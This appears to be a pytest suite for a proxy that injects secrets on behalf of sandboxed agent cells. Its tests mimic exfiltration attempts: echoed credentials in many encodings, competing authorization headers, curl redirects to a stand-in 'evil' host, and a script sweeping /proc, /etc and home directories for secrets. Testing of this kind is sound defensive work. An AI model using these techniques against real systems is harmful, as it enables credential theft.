"""A credential is sent for a real cell; the cell tries to see it, to send it elsewhere, or to have it sent for more."""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from pathlib import Path

import pytest
from attacked import Attacker, Whole, request
from governed import PLACEHOLDER, SECRET
from instance import wait_for

pytestmark = pytest.mark.xdist_group("attacks-whole")

API, OTHER, WRONG = "api.up.example", "other.up.example", "wrong.up.example"
SPELLED = [
    SECRET.encode(),
    SECRET.encode().hex().encode(),
    urllib.parse.quote(SECRET, safe="").encode(),
    "".join(f"%{byte:02x}" for byte in SECRET.encode()).encode(),
    *(base64.b64encode(b"x" * n + SECRET.encode())[4 * (n > 0) : -4] for n in range(3)),
    *(base64.urlsafe_b64encode(b"x" * n + SECRET.encode())[4 * (n > 0) : -4] for n in range(3)),
]
"""The secret as it can stand in an answer; base64 at each of its three alignments, without what the ends change."""


def tells(raw: bytes) -> bool:
    """Whether `raw`, a whole response as it came, holds the secret in one of these spellings."""
    head, _, body = raw.partition(b"\r\n\r\n")
    if b"content-encoding: gzip" in head.lower():
        body = gzip.decompress(body)
    if b"transfer-encoding: chunked" in head.lower():
        body = body + b"".join(body.split(b"\r\n")[1::2])
    joined = head + body
    return any(spelled in joined or spelled in joined.replace(b"\r\n", b"") for spelled in SPELLED)


ECHOES = {
    "in the body": "body",
    "in a header": "header",
    "in a cookie": "cookie",
    "in a redirect": "redirect",
    "in an error page": "error",
    "in base64": "base64",
    "in base64 for URLs, not at its beginning": "base64url%20inside",
    "in hexadecimal": "hex",
    "percent-encoded": "percent",
    "compressed": "gzip",
    "a byte a chunk": "chunks",
    "in a trailer": "trailer",
}


@pytest.mark.parametrize("sentence", ECHOES)
def test_an_upstream_that_says_the_credential_again_does_not_tell_the_agent(
    whole: Whole, cell: Attacker, sentence: str
) -> None:
    port = whole.hostile.port
    data = request(API, port, f"/echo/{ECHOES[sentence]}", "te: trailers", "connection: close, te")
    source = "with connect('api.up.example', port) as sock:\n    result = everything(sock, data)"
    assert not tells(cell.do(source, port=port, data=data).encode("latin-1"))


def test_a_credential_asked_for_in_ranges_is_not_told_in_pieces(whole: Whole, cell: Attacker) -> None:
    port = whole.hostile.port
    pieces = [
        cell.ask(API, port, request(API, port, "/echo/range", f"range: bytes={n}-{n + 3}"))["body"]
        for n in range(0, 40, 4)
    ]
    assert SECRET not in "".join(pieces)


@pytest.mark.parametrize(
    ("path", "seen"),
    [
        ("/v1/x", PLACEHOLDER[: len(SECRET)]),
        ("/basic/x", base64.b64encode(b"robot:remit-hidden").decode()),
        ("/query/x", "key=remit-hidden"),
    ],
)
def test_an_ordinary_upstream_that_shows_the_request_does_not_tell_the_agent(
    whole: Whole, cell: Attacker, path: str, seen: str
) -> None:
    port, before = whole.upstreams.https_port, len(whole.upstreams.seen)
    body = cell.ask(API, port, request(API, port, path))["body"].encode("latin-1")
    pair = base64.b64encode(f"robot:{SECRET}".encode())
    arrived = json.dumps(whole.upstreams.seen[before:]).encode()
    assert SECRET.encode() in arrived or pair in arrived
    assert not [spelled for spelled in (*SPELLED, pair) if spelled in body]
    assert seen.encode() in body


def test_the_reason_phrase_of_an_upstream_is_not_passed_on(whole: Whole, cell: Attacker) -> None:
    port = whole.hostile.port
    source = "with connect('api.up.example', port) as sock:\n    result = everything(sock, data)"
    data = request(API, port, "/echo/reason", "connection: close")
    assert SECRET not in cell.do(source, port=port, data=data)


COMPETING = {
    "one of its own": ("authorization: Bearer mine",),
    "two of its own": ("authorization: Bearer one", "Authorization: Bearer two"),
    "one that the connection takes off": ("connection: authorization",),
    "one that the connection takes off, in a list": ("connection: close, Authorization",),
    "an empty one": ("authorization:",),
}


@pytest.mark.parametrize("sentence", COMPETING)
def test_a_competing_authorization_neither_wins_nor_takes_the_credential_off(
    whole: Whole, cell: Attacker, sentence: str
) -> None:
    port, before = whole.hostile.port, len(whole.hostile.seen)
    cell.ask(API, port, request(API, port, "/v1/compete", *COMPETING[sentence]))
    for seen in whole.hostile.seen[before:]:
        assert [value for name, value in seen["headers"] if name == "authorization"] == [f"Bearer {SECRET}"]
        assert "mine" not in str(seen) and "Bearer two" not in str(seen)


def test_a_competing_query_parameter_is_replaced_however_it_is_spelled(whole: Whole, cell: Attacker) -> None:
    port, before = whole.upstreams.https_port, len(whole.upstreams.seen)
    cell.ask(API, port, request(API, port, "/query/x?key=a&%6bey=b&k%65y&a=1&key"))
    assert [seen["path"] for seen in whole.upstreams.seen[before:]] == [f"/query/x?a=1&key={SECRET}"]


def test_a_placeholder_stays_one_wherever_else_it_is_sent(whole: Whole, cell: Attacker) -> None:
    """To another host, in another header, in a body, in a query, in the clear."""
    port, plain = whole.hostile.port, whole.upstreams.http_port
    assert cell.do("import os; result = os.environ['API_KEY']") == PLACEHOLDER
    sent = [f"x-key: {PLACEHOLDER}", f"authorization: Bearer {PLACEHOLDER}"]
    before, clear = len(whole.hostile.seen), len(whole.upstreams.seen)
    for _ in range(2):
        data = request(OTHER, port, f"/open/x?key={PLACEHOLDER}", *sent, method="POST", body=PLACEHOLDER)
        assert cell.ask(OTHER, port, data)["status"] == 200
    assert cell.ask(API, plain, request(API, plain, "/v1/clear", *sent), tls=False)["status"] == 200
    arrived = json.dumps([whole.hostile.seen[before:], whole.upstreams.seen[clear:]])
    assert SECRET not in arrived and arrived.count(PLACEHOLDER) == 10
    whole.refused(lambda: cell.ask(API, plain, request(API, plain, "/basic/x"), tls=False), "no_capability")


@pytest.mark.parametrize(
    "to", [f"https://{OTHER}:PORT/open/x", "https://evil.up.example:PORT/x", f"http://{API}:PLAIN/v1/redirected"]
)
def test_a_credential_does_not_follow_a_redirect(whole: Whole, cell: Attacker, to: str) -> None:
    port = whole.hostile.port
    to = to.replace("PORT", str(port)).replace("PLAIN", str(whole.upstreams.http_port))
    before, clear = len(whole.hostile.seen), len(whole.upstreams.seen)
    source = "import subprocess; subprocess.run(['curl', '-gsSL', '--location-trusted', '-m', '15', '-H', 'Authorization: Bearer x', url], capture_output=True)"
    cell.do(source, url=f"https://{API}:{port}/to?{to}")
    first, *others = [*whole.hostile.seen[before:], *whole.upstreams.seen[clear:]]
    assert dict(first["headers"])["authorization"] == f"Bearer {SECRET}"
    assert SECRET not in json.dumps(others)
    assert not [seen for seen in others if "evil" in json.dumps(seen)]


@pytest.mark.parametrize("where", ["hostile", "down"])
def test_an_upstream_that_cannot_prove_its_name_or_is_gone_gets_no_credential_and_neither_does_the_agent(
    whole: Whole, cell: Attacker, where: str
) -> None:
    port = whole.hostile.port if where == "hostile" else 1
    before = len(whole.hostile.seen)
    answer = cell.ask(WRONG, port, request(WRONG, port, "/v1/wrong"))
    assert answer["status"] == 503
    assert SECRET not in json.dumps(answer)
    assert len(whole.hostile.seen) == before
    record = wait_for(lambda: [r for r in whole.audit(host=WRONG) if r["port"] == port and r["status"]], "completion")
    assert record[-1]["status"] == 503


def test_nothing_that_a_cell_can_read_holds_the_secret_or_a_token(whole: Whole, cell: Attacker) -> None:
    source = """
import os
needles, found, read = [n.encode() for n in needles], [], 0
in_proc = ("environ", "cmdline", "mountinfo", "maps", "status", "stat", "keys", "version", "net", "locks")
for root in ("/proc", "/etc", "/tmp", "/run", os.environ["HOME"], "/dev/shm"):
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if root != "/proc" or name.isdigit()]
        for name in files if root != "/proc" else [name for name in files if name in in_proc]:
            path = os.path.join(folder, name)
            try:
                with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                    data = file.read(1 << 20)
            except OSError:
                continue
            read += 1
            found += [path for needle in needles if needle in data]
result = [read, found]
"""
    whole.still_works(cell)
    split = [SECRET, "spiffe://", base64.b64encode(b'{"alg":"EdDSA"').decode().rstrip("=")[:16]]
    read, found = cell.do(source, needles=split)
    assert read > 50
    assert found == []


def test_nothing_that_the_node_writes_holds_the_secret(whole: Whole, cell: Attacker) -> None:
    """Records, Envoy's log and configuration, the snapshot, the store: the sealed one alone, and only sealed.

    What agents print is kept too, and is theirs: here it holds what an upstream told them.
    """
    state: Path = whole.remit.state
    files = [file for file in [*state.rglob("*"), *whole.remit.run_dir.rglob("*")] if file.is_file()]
    files = [file for file in files if file.name != "output.log"]
    assert len(files) > 10
    for file in files:
        data = file.read_bytes()
        assert SECRET.encode() not in data, file
        assert base64.b64encode(f"robot:{SECRET}".encode()) not in data, file
    assert SECRET not in json.dumps(whole.audit())
    whole.still_works(cell)
